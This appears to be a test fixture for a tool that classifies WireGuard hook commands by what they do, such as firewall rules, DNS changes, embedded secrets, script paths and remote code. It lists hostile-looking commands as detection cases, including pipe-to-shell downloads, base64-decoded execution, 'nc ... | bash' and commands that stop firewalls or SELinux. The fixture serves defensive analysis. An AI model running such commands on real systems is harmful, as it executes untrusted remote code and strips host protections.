  { hook: 'wg set %i fwmark 51820', does: ['wg set this fwmark peers=0'], undo: [] },
  { hook: 'wg syncconf %i <(wg-quick strip %i)', does: ['wg syncconf this  peers=0'], undo: [] },
  {
    hook: 'wg set %i private-key <(cat /etc/wireguard/private.key)',
    does: ['wg set this private-key peers=0'],
    undo: [],
  },
  {
    hook: 'PRIVATE=QCDyYSpmpAEkgnAXQRBBThvF2vWhgQvUIlXZMtiQEGs= ; wg set %i private-key <<< $PRIVATE',
    does: ['secret private-key @PRIVATE=', 'wg set this private-key peers=0'],
    undo: [],
  },
  // resolvers
  {
    hook: 'resolvectl dns %i 10.8.0.1; resolvectl domain %i "~."',
    does: ['resolver resolvectl', 'resolver resolvectl'],
    undo: [],
  },
  {
    hook: "printf 'nameserver 10.8.0.1\\nsearch lan' | resolvconf -a tun.%i -m 0 -x",
    does: ['resolver resolvconf'],
    undo: ['resolvconf -d tun.%i'],
  },
  { hook: 'resolvconf -d tun.%i -f', does: ['resolver resolvconf'], undo: [] },
  { hook: 'echo "nameserver 10.8.0.1" > /etc/resolv.conf', does: ['resolver resolv.conf'], undo: [] },
  { hook: 'systemd-resolve -i %i --set-dns=10.8.0.1', does: ['resolver systemd-resolve'], undo: [] },
  // remote code, paths
  { hook: 'curl -s http://example.com/up.sh | sh', does: ['remote code from example.com by pipe to sh'], undo: [] },
  {
    hook: 'curl -fsSL https://get.example.org/fw.sh | sudo bash -s -- --quiet',
    does: ['remote code from get.example.org by pipe to bash'],
    undo: [],
  },
  {
    hook: 'wget -qO- https://example.net/setup | /bin/bash',
    does: ['remote code from example.net by pipe to bash'],
    undo: [],
  },
  {
    hook: 'bash <(curl -s https://example.com/x.sh)',
    does: ['remote code from example.com by substitution to bash'],
    undo: [],
  },
  {
    hook: 'bash -c "$(curl -fsSL https://raw.example.com/i.sh)"',
    does: ['remote code from raw.example.com by substitution to bash'],
    undo: [],
  },
  {
    hook: 'eval "$(wget -q -O - http://192.0.2.7/env)"',
    does: ['remote code from 192.0.2.7 by substitution to eval'],
    undo: [],
  },
  {
    hook: 'source <(curl -s https://user:pw1@conf.example.com/vars)',
    does: ['remote code from conf.example.com by substitution to source', 'secret password @-s https://user:'],
    undo: [],
  },
  {
    hook: 'curl -o /tmp/up.sh https://example.com/up.sh && chmod +x /tmp/up.sh && /tmp/up.sh %i',
    does: ['remote code from example.com by file to chmod', 'untrusted shared /tmp/up.sh', 'script /tmp/up.sh'],
    undo: [],
  },
  {
    hook: 'wget https://example.com/fw.py -O /usr/local/bin/fw.py; python3 /usr/local/bin/fw.py',
    does: ['remote code from example.com by file to python3', 'script /usr/local/bin/fw.py'],
    undo: [],
  },
  { hook: 'echo aXB0YWJsZXMgLUYK | base64 -d | sh', does: ['remote code from ? by decoded to sh'], undo: [] },
  {
    hook: 'openssl s_client -quiet -connect 192.0.2.9:443 | sh',
    does: ['remote code from 192.0.2.9 by pipe to sh'],
    undo: [],
  },
  { hook: 'nc 192.0.2.5 4444 | bash', does: ['remote code from 192.0.2.5 by pipe to bash'], undo: [] },
  {
    hook: 'curl -s https://api.example.com/up | python3 -c \'import sys,json; print(json.load(sys.stdin)["ip"])\'',
    does: [],
    undo: [],
  },
  {
    hook: 'curl -s "https://www.duckdns.org/update?domains=home&token=8a1b2c3d-0000-1111-2222-333344445555&ip="',
    does: ['secret token @-s "https://www.duckdns.org/update?domains=home&token='],
    undo: [],
  },
  {
    hook: 'curl -s -X POST https://api.telegram.org/bot123456789:AAF0aBcDeFgHiJkLmNoPqRsTuVwXyZ01234/sendMessage -d chat_id=42 -d text="vpn up"',
    does: ['secret token @POST https://api.telegram.org/bot'],
    undo: [],
  },
  { hook: 'curl -u admin:hunter22 https://router.example/api/open', does: ['secret password @-u admin:'], undo: [] },
  {
    hook: 'curl -H "Authorization: Bearer abcdef0123456789" https://api.example.com/notify',
    does: ['secret token @Bearer '],
    undo: [],
  },
  {
    hook: 'curl -H "Authorization: Bearer $(cat /etc/wireguard/token)" https://api.example.com/notify',
    does: [],
    undo: [],
  },
  { hook: 'curl -s https://ifconfig.example | logger -t wg', does: [], undo: [] },
  { hook: '/tmp/fw.sh up %i', does: ['untrusted shared /tmp/fw.sh', 'script /tmp/fw.sh'], undo: [] },
  {
    hook: '/home/alice/bin/wg-up.sh',
    does: ['untrusted home /home/alice/bin/wg-up.sh', 'script /home/alice/bin/wg-up.sh'],
    undo: [],
  },
  { hook: '~/wg-up.sh', does: ['untrusted home ~/wg-up.sh', 'script ~/wg-up.sh'], undo: [] },
  { hook: './up.sh %i', does: ['untrusted relative ./up.sh', 'script ./up.sh'], undo: [] },
  { hook: 'bash /var/tmp/x.sh', does: ['untrusted shared /var/tmp/x.sh', 'script /var/tmp/x.sh'], undo: [] },
  {
    hook: 'sh /etc/wireguard/helper/add-nat-routing.sh',
    does: ['script /etc/wireguard/helper/add-nat-routing.sh'],
    undo: [],
  },
  { hook: '/etc/wireguard/postup.sh', does: ['script /etc/wireguard/postup.sh'], undo: [] },
  { hook: '/usr/local/sbin/wg-fw up %i', does: ['script /usr/local/sbin/wg-fw'], undo: [] },
  { hook: 'python3 /opt/wg/notify.py --iface %i', does: ['script /opt/wg/notify.py'], undo: [] },
  {
    hook: '. /etc/wireguard/env.sh; iptables -A FORWARD -i %i -j ACCEPT',
    does: ['script /etc/wireguard/env.sh', '+ iptables 4 filter forward accept in=this'],
    undo: ['iptables -D FORWARD -i %i -j ACCEPT'],
  },
  { hook: 'logger "wg %i is up"', does: [], undo: [] },
  { hook: 'ping -c 1 10.8.0.1 || true', does: [], undo: [] },
  { hook: 'while ! ping -c1 10.8.0.1; do sleep 1; done', does: [], undo: [] },
  { hook: 'systemctl restart unbound', does: [], undo: [] },
  { hook: 'systemctl stop firewalld', does: ['off: stops firewalld'], undo: [] },
  { hook: 'systemctl disable --now nftables.service', does: ['off: stops nftables'], undo: [] },
  { hook: 'setenforce 0', does: ['off: switches SELinux to permissive'], undo: [] },
  { hook: 'service ufw stop', does: ['off: stops ufw'], undo: [] },
  { hook: 'tc qdisc add dev %i root cake bandwidth 50Mbit', does: [], undo: [] },
  { hook: 'conntrack -F', does: [], undo: [] },
  {
    hook: 'ipset create vpn hash:ip; ipset add vpn 10.8.0.2',
    does: [],
    undo: ['ipset destroy vpn', 'ipset del vpn 10.8.0.2'],
  },
  { hook: 'touch /run/wg-%i.up', does: [], undo: [] },
  { hook: 'mount -t nfs 10.8.0.1:/srv /mnt', does: [], undo: [] },
  { hook: 'docker exec pihole pihole restartdns', does: [], undo: [] },
  { hook: 'echo "iptables -F" >> /root/notes.txt', does: [], undo: [] },
  // more of each kind, and what is none
  {
    hook: 'iptables -I INPUT -p udp --dport 51820 -j ACCEPT',
    does: ['+ iptables 4 filter input accept proto=udp ports=51820'],
    undo: ['iptables -D INPUT -p udp --dport 51820 -j ACCEPT'],
  },
  {
    hook: 'iptables -I FORWARD -i eth0 -o wg0 -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=eth0 out=this'],
    undo: ['iptables -D FORWARD -i eth0 -o wg0 -j ACCEPT'],
  },
  {
    hook: 'ip6tables -t nat -I POSTROUTING -o eth0 -j MASQUERADE',
    does: ['+ iptables 6 nat postrouting masquerade out=eth0'],
    undo: ['ip6tables -t nat -D POSTROUTING -o eth0 -j MASQUERADE'],
  },
  {
    hook: 'bash -c "iptables -A FORWARD -i %i -m comment --comment \\"to lan\\" -j ACCEPT"',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['?'],
  },
  {
    hook: 'iptables -A FORWARD -i %i -j ACCEPT # let peers out',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['iptables -D FORWARD -i %i -j ACCEPT'],
  },
  {
    hook: 'iptables -A FORWARD -i %i -m mac --mac-source 02:00:00:00:00:01 -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this …'],
    undo: ['iptables -D FORWARD -i %i -m mac --mac-source 02:00:00:00:00:01 -j ACCEPT'],
  },
  {
    hook: 'iptables -A FORWARD -p icmp -j ACCEPT',
    does: ['+ iptables 4 filter forward accept proto=icmp'],
    undo: ['iptables -D FORWARD -p icmp -j ACCEPT'],
  },
  { hook: 'iptables -R FORWARD 2 -i %i -j DROP', does: [], undo: [] },
  { hook: 'iptables -L -n -v', does: [], undo: [] },
  { hook: 'iptables-save > /etc/iptables/rules.v4', does: [], undo: [] },
  { hook: 'for t in iptables ip6tables; do $t -A FORWARD -i %i -j ACCEPT; done', does: ['script $t'], undo: [] },
  {
    hook: 'IPT=/sbin/iptables; $IPT -A FORWARD -i %i -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['IPT=/sbin/iptables; $IPT -D FORWARD -i %i -j ACCEPT'],
  },
  {
    hook: 'iptables -A FORWARD -i %i -m iprange --dst-range 10.0.0.5-10.0.0.9 -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this …'],
    undo: ['iptables -D FORWARD -i %i -m iprange --dst-range 10.0.0.5-10.0.0.9 -j ACCEPT'],
  },
  {
    hook: 'iptables -t nat -A POSTROUTING -s 10.8.0.0/24 ! -d 10.8.0.0/24 -j MASQUERADE',
    does: ['+ iptables 4 nat postrouting masquerade from=10.8.0.0/24 to=not 10.8.0.0/24'],
    undo: ['iptables -t nat -D POSTROUTING -s 10.8.0.0/24 ! -d 10.8.0.0/24 -j MASQUERADE'],
  },
  {
    hook: 'iptables -t raw -I PREROUTING ! -i %i -d 10.8.0.1 -m addrtype ! --src-type LOCAL -j DROP',
    does: ['+ iptables 4 raw prerouting drop in=not this to=10.8.0.1 …'],
    undo: ['iptables -t raw -D PREROUTING ! -i %i -d 10.8.0.1 -m addrtype ! --src-type LOCAL -j DROP'],
  },
  {
    hook: 'iptables -A "FORWARD" -i "%i" -j "ACCEPT"',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['iptables -D "FORWARD" -i "%i" -j "ACCEPT"'],
  },
  {
    hook: 'iptables -A FORWARD -i %i',
    does: ['+ iptables 4 filter forward other in=this'],
    undo: ['iptables -D FORWARD -i %i'],
  },
  { hook: 'iptables', does: [], undo: [] },
  { hook: 'iptables -A', does: [], undo: [] },
  {
    hook: 'ufw allow proto udp from any to any port 51820',
    does: ['+ ufw 4,6 filter input accept proto=udp ports=51820'],
    undo: ['ufw delete allow proto udp from any to any port 51820'],
  },
  {
    hook: 'ufw allow OpenSSH',
    does: ['+ ufw 4,6 filter input accept ports=OpenSSH'],
    undo: ['ufw delete allow OpenSSH'],
  },
  {
    hook: 'ufw reject in on %i to 192.168.1.1',
    does: ['+ ufw 4,6 filter input reject in=this to=192.168.1.1'],
    undo: ['ufw delete reject in on %i to 192.168.1.1'],
  },
  {
    hook: 'ufw allow in on %i proto tcp to any port 80,443',
    does: ['+ ufw 4,6 filter input accept in=this proto=tcp ports=80,443'],
    undo: ['ufw delete allow in on %i proto tcp to any port 80,443'],
  },
  { hook: 'ufw status', does: [], undo: [] },
  { hook: 'nft list ruleset', does: [], undo: [] },
  { hook: 'nft', does: [], undo: [] },
  { hook: 'nft add', does: [], undo: [] },
  {
    hook: 'nft -a add rule inet filter input iifname "%i" log prefix "wg: " drop',
    does: ['+ nft 4,6 filter input drop in=this'],
    undo: ['?'],
  },
  {
    hook: 'nft -f - <<< "add rule inet filter input iifname wg0 accept"',
    does: ['+ nft 4,6 filter input accept in=this'],
    undo: ['?'],
  },
  {
    hook: 'nft add rule inet filter forward meta iifname %i ip daddr != 10.0.0.0/8 reject with icmp type admin-prohibited',
    does: ['+ nft 4 filter forward reject in=this to=not 10.0.0.0/8'],
    undo: ['?'],
  },
  {
    hook: 'nft add rule inet filter input ip6 saddr fd00::/64 udp dport 53 accept',
    does: ['+ nft 6 filter input accept from=fd00::/64 proto=udp ports=53'],
    undo: ['?'],
  },
  { hook: 'nft delete rule inet filter forward handle 7', does: [], undo: [] },
  {
    hook: 'nft add rule ip nat postrouting ip saddr 10.8.0.0/24 snat to 198.51.100.7',
    does: ['+ nft 4 nat postrouting snat from=10.8.0.0/24'],
    undo: ['?'],
  },
  { hook: 'firewall-cmd --reload', does: ['script firewall-cmd'], undo: [] },
  {
    hook: 'firewall-cmd --permanent --zone=public --add-port 51820/udp',
    does: ['+ firewalld 4,6 filter input accept proto=udp ports=51820 …'],
    undo: ['firewall-cmd --permanent --zone=public --remove-port 51820/udp'],
  },
  {
    hook: 'echo 0 >/proc/sys/net/ipv6/conf/all/accept_ra; echo -n 1 > /proc/sys/net/ipv6/conf/default/forwarding',
    does: ['kernel net.ipv6.conf.all.accept_ra=0', 'forwarding 6 default on'],
    undo: [],
  },
  {
    hook: 'sysctl -w net.ipv4.conf.eth0/100.rp_filter=0',
    does: ['kernel net.ipv4.conf.eth0/100.rp_filter=0 (weaker)'],
    undo: [],
  },
  { hook: 'sysctl net.ipv4.ip_forward', does: [], undo: [] },
  {
    hook: 'ip route del default; ip route add default via 10.8.0.1 dev %i',
    does: ['route remove default', 'route add default via 10.8.0.1 dev %i'],
    undo: ['-'],
  },
  { hook: 'ip route flush table 200', does: [], undo: [] },
  {
    hook: 'ip ro a 10.1.0.0/16 via 10.0.0.1',
    does: ['route add 10.1.0.0/16 via 10.0.0.1'],
    undo: ['ip ro del 10.1.0.0/16 via 10.0.0.1'],
  },
  { hook: 'ip address', does: [], undo: [] },
  { hook: 'wg show %i', does: [], undo: [] },
  { hook: 'wg', does: [], undo: [] },
  { hook: 'awg set %i jc 5', does: ['wg set this  peers=0'], undo: [] },
  {
    hook: 'wget -O /root/x https://u:made-up-pw@dl.example/x; sh /root/x',
    does: ['remote code from dl.example by file to sh', 'secret password @/root/x https://u:', 'script /root/x'],
    undo: [],
  },
  {
    hook: 'curl -sSL https://install.example | PASSWORD=abc123 bash',
    does: ['remote code from install.example by pipe to bash', 'secret password @| PASSWORD='],
    undo: [],
  },
  {
    hook: 'curl -sO https://example.com/go.sh && bash go.sh',
    does: ['remote code from example.com by file to bash'],
    undo: [],
  },
  {
    hook: '(curl -s https://example.com/a.sh; echo) | bash',
    does: ['remote code from example.com by pipe to bash'],
    undo: [],
  },
  {
    hook: 'curl https://example.com/list.txt | while read -r ip; do iptables -A INPUT -s "$ip" -j DROP; done',
    does: ['+ iptables 4 filter input drop from=$ip'],
    undo: ['?'],
  },
  { hook: 'curl https://example.com/x | sudo tee /etc/x', does: [], undo: [] },
  {
    hook: 'curl -s https://example.com/p.py | python3 -',
    does: ['remote code from example.com by pipe to python3'],
    undo: [],
  },
  {
    hook: 'perl -e "$(curl -s https://example.com/p.pl)"',
    does: ['remote code from example.com by substitution to perl'],
    undo: [],
  },
  {
    hook: '$(curl -s https://example.com/cmd)',
    does: ['remote code from example.com by substitution to sh'],
    undo: [],
  },
  { hook: 'mosquitto_pub -h broker -u vpn -P hunter22 -t wg -m up', does: [], undo: [] },
  { hook: 'sshpass -p s3cret ssh root@192.0.2.1 reboot', does: ['secret password @-p '], undo: [] },
  { hook: "ssh root@192.0.2.1 'iptables -A INPUT -j ACCEPT'", does: [], undo: [] },
  { hook: "mysql --password=letmein -e 'select 1'", does: ['secret password @mysql --password='], undo: [] },
  {
    hook: 'TOKEN=abcd1234efgh curl -H "X-Auth-Token: $TOKEN" https://api.example.com',
    does: ['secret token @TOKEN='],
    undo: [],
  },
  {
    hook: 'curl -H "X-API-Key: 0123456789abcdef" https://api.example.com',
    does: ['secret token @"X-API-Key: '],
    undo: [],
  },
  {
    hook: 'curl -d \'{"content":"up"}\' https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz',
    does: ['secret token @\'{"content":"up"}\' https://discord.com/api/webhooks/123456789012345678/'],
    undo: [],
  },
  {
    hook: 'wg set %i private-key <(gpg -d /etc/wireguard/key.gpg)',
    does: ['wg set this private-key peers=0'],
    undo: [],
  },
  {
    hook: 'wg set %i peer "Zjh7o7Zsh4ykIb0xj5h2LA4MMIr7zbTjcIgBiLxzbQs=" endpoint vpn.example.com:51820',
    does: ['wg set this endpoint peers=1'],
    undo: [],
  },
  {
    hook: 'PSK=7LQAFv62pengMTH9k+jtPPyyrZwpQu8JvfKgR8G+lyE=; wg set %i peer Zjh7o7Zsh4ykIb0xj5h2LA4MMIr7zbTjcIgBiLxzbQs= preshared-key <(echo $PSK)',
    does: ['secret preshared-key @PSK=', 'wg set this preshared-key peers=1'],
    undo: [],
  },
  { hook: '$HOME/bin/up', does: ['untrusted home $HOME/bin/up', 'script $HOME/bin/up'], undo: [] },
  { hook: 'scripts/up.sh', does: ['untrusted relative scripts/up.sh', 'script scripts/up.sh'], undo: [] },
  { hook: '/run/user/1000/x', does: ['untrusted home /run/user/1000/x', 'script /run/user/1000/x'], undo: [] },
  { hook: '"/tmp/my script.sh"', does: ['untrusted shared /tmp/my script.sh', 'script /tmp/my script.sh'], undo: [] },
  { hook: '/etc/init.d/iptables stop', does: ['off: stops iptables', 'script /etc/init.d/iptables'], undo: [] },
  { hook: 'rc-service nftables stop', does: ['off: stops nftables'], undo: [] },
  { hook: 'cp /etc/resolv.conf.vpn /etc/resolv.conf', does: ['resolver resolv.conf'], undo: [] },
  { hook: 'ipset destroy vpn', does: [], undo: [] },
  { hook: 'echo "unclosed', does: [], undo: [] },
  {
    hook: 'iptables -A FORWARD -i %i -j ACCEPT; (',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['iptables -D FORWARD -i %i -j ACCEPT'],
  },
  {
    hook: 'case %i in wg0) iptables -A FORWARD -i wg0 -j ACCEPT;; esac',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['iptables -D FORWARD -i wg0 -j ACCEPT'],
  },
  // options that look like passwords
  { hook: 'docker run --rm -u 1000:1000 alpine true', does: [], undo: [] },
  { hook: 'BYPASS=yes logger x', does: [], undo: [] },
  { hook: 'TOKEN=/etc/wireguard/token logger x', does: [], undo: [] },
  { hook: "DB_PASSWORD='abc def' logger x", does: ["secret password @DB_PASSWORD='"], undo: [] },
];
